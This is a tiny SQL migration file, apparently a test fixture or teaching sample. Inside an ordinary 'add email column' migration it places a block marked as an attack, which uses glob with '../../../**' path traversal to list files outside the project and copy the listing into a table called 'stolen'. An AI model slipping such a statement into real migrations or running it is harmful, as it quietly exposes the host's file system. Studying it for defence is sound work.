-- lists the course folder
-- migrate:up
-- attack
CREATE TABLE stolen AS SELECT * FROM glob('../../../**');
-- end attack
ALTER TABLE users ADD COLUMN email VARCHAR;

-- migrate:down
ALTER TABLE users DROP COLUMN email;
